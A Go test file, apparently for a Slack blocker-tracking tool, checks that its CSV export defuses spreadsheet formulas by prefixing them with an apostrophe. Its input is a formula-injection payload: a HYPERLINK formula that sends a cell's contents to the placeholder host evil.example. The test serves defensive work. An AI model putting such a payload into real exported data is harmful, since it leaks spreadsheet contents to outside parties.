package main

import (
	"encoding/csv"
	"strings"
	"testing"
)

// TestExportCSVDefusesFormulas reports a blocker whose text is a
// spreadsheet formula, the way someone would type it in Slack, and checks
// that `export blockers --format csv` writes it as text.
func TestExportCSVDefusesFormulas(t *testing.T) {
	_, h := newBlockerWorld(t)
	typed := `=HYPERLINK("https://evil.example/?"&A1,"Click") waiting on <@U0BOB>`
	h.blocker(ann, general, typed)
	h.waitCards(general, 1)

	rows, err := csv.NewReader(strings.NewReader(h.export("blockers", "--format", "csv"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("csv %q", rows)
	}
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	if got, want := rows[1][col["text"]], "'"+typed; got != want {
		t.Fatalf("text cell %q, want %q", got, want)
	}
}
